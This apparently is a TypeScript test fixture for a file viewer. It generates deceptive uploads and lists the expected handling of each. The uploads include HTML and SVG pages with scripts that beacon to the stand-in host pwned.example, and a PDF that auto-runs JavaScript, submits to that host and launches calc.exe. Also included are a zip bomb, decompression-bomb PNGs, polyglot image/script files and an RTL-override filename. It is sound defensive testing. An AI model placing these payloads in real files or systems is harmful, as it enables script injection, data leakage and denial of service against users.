import { crc32, deflateRawSync, deflateSync } from "node:zlib"
import { picture } from "#app/cli/demo/files.ts"
import type { ChosenFile } from "./pages/report-form.ts"

/** What is tried in every file that can hold a script: it would be seen in the page, in the frame, or by a request. */
const script =
  'try{window.pwned=1;top.pwned=1;document.title="pwned";alert(1)}catch(e){};new Image().src="https://pwned.example/"'

const file = (name: string, mimeType: string, content: string | Uint8Array): ChosenFile => ({
  ...{ name, mimeType },
  buffer: typeof content === "string" ? Buffer.from(content, "latin1") : Buffer.from(content),
})

function pngChunk(type: string, data: Uint8Array): Buffer {
  const body = Buffer.concat([Buffer.from(type, "latin1"), data])
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  check.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, check])
}

/** A black picture, one bit for each point: even a huge one is a small file. */
function blackPng(side: number, rows: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(side, 0)
  header.writeUInt32BE(side, 4)
  header.set([1, 0, 0, 0, 0], 8)
  const points = deflateSync(Buffer.alloc((Math.ceil(side / 8) + 1) * rows))
  const signature = Buffer.from("\x89PNG\r\n\x1a\n", "latin1")
  return Buffer.concat([
    signature,
    pngChunk("IHDR", header),
    pngChunk("IDAT", points),
    pngChunk("IEND", Buffer.alloc(0)),
  ])
}

/** An archive whose one member unpacks to a thousand times its size. */
function zipBomb(): Buffer {
  const plain = Buffer.alloc(64 * 1024 * 1024)
  const packed = deflateRawSync(plain, { level: 9 })
  const name = Buffer.from("word/document.xml")
  const local = Buffer.alloc(30)
  local.write("PK\x03\x04", "latin1")
  local.writeUInt16LE(8, 8)
  local.writeUInt32LE(crc32(plain), 14)
  local.writeUInt32LE(packed.length, 18)
  local.writeUInt32LE(plain.length, 22)
  local.writeUInt16LE(name.length, 26)
  return Buffer.concat([local, name, packed])
}

/** A document of one page that wants to run a script, open an address and start a program as soon as it is opened. */
function activePdf(kids: string): string {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA << /WC 4 0 R >> /Names << /JavaScript << /Names [(a) 4 0 R] >> >> >>`,
    `<< /Type /Pages /Kids [${kids}] /Count 1 >>`,
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O 5 0 R >> /Annots [6 0 R] >>",
    `<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://pwned.example/"\\); ${script.replace(/[()\\]/g, "\\$&")}) /Next 5 0 R >>`,
    "<< /S /URI /URI (https://pwned.example/) /Next 7 0 R >>",
    "<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A 5 0 R >>",
    "<< /S /Launch /F (calc.exe) >>",
  ]
  let body = "%PDF-1.7\n"
  const offsets = objects.map((object, index) => {
    const at = body.length
    body += `${String(index + 1)} 0 obj\n${object}\nendobj\n`
    return at
  })
  const count = String(objects.length + 1)
  const table = offsets.map((at) => `${String(at).padStart(10, "0")} 00000 n \n`).join("")
  return `${body}xref\n0 ${count}\n0000000000 65535 f \n${table}trailer\n<< /Size ${count} /Root 1 0 R >>\nstartxref\n${String(body.length)}\n%%EOF\n`
}

const html = `<!doctype html><html><body><h1>pwned</h1><script>${script}</script><img src="https://pwned.example/" onerror="${script.replaceAll('"', "'")}"></body></html>`
const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="${script.replaceAll('"', "'")}"><script>${script}</script><image href="https://pwned.example/"/></svg>`

/** What becomes of a file in the viewer: drawn, only offered to save, or refused with a reason. */
export type Outcome = "shown" | "other" | "damaged" | "too-large"

export type LyingFile = { what: string; file: ChosenFile; outcome: Outcome }

export const lyingFiles: readonly LyingFile[] = [
  { what: "a web page named as a photo", outcome: "other", file: file("anh-chup.jpg", "image/jpeg", html) },
  {
    what: "a web page behind blank lines",
    outcome: "other",
    file: file("ghi-chu.txt", "text/plain", `\n \n${html}`),
  },
  { what: "a drawing with a script in it", outcome: "other", file: file("so-do.svg", "image/svg+xml", svg) },
  {
    what: "a document that wants to run a script",
    outcome: "shown",
    file: file("cong-van.pdf", "application/pdf", activePdf("3 0 R")),
  },
  {
    what: "a document whose pages contain themselves",
    outcome: "damaged",
    file: file("vong.pdf", "application/pdf", activePdf("2 0 R")),
  },
  {
    what: "an archive that unpacks to a thousand times its size",
    outcome: "other",
    file: file(
      "ho-so.docx",
      "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
      zipBomb(),
    ),
  },
  {
    what: "a picture of 50,000 × 50,000 points",
    outcome: "too-large",
    file: file("khong-lo.png", "image/png", blackPng(50_000, 1)),
  },
  {
    what: "a small file that is a picture of 64 million points",
    outcome: "shown",
    file: file("lon.png", "image/png", blackPng(8000, 8000)),
  },
  {
    what: "a picture with a web page behind its end",
    outcome: "shown",
    file: file("anh-duoi.png", "image/png", Buffer.concat([picture(3), Buffer.from(html)])),
  },
  {
    what: "a picture that is a script too",
    outcome: "damaged",
    file: file("anh.gif", "image/gif", `GIF89a/*${"\0".repeat(60)}*/=1;${script}`),
  },
  {
    what: "a film that is noise after its first bytes",
    outcome: "damaged",
    file: file("phim.mp4", "video/mp4", `\0\0\0\x18ftypisom\0\0\0\0isommp42${"\x07noise".repeat(4000)}`),
  },
  {
    what: "a sound that is a web page after its first bytes",
    outcome: "damaged",
    file: file("ghi-am.wav", "audio/wav", `RIFF\xff\xff\0\0WAVEfmt ${html}`),
  },
  {
    what: "a text full of markup and turned letters",
    outcome: "shown",
    file: file("loi-ke.txt", "text/plain", Buffer.from(`Kể lại: ${html} \u202etxt.exe\u202c`)),
  },
]
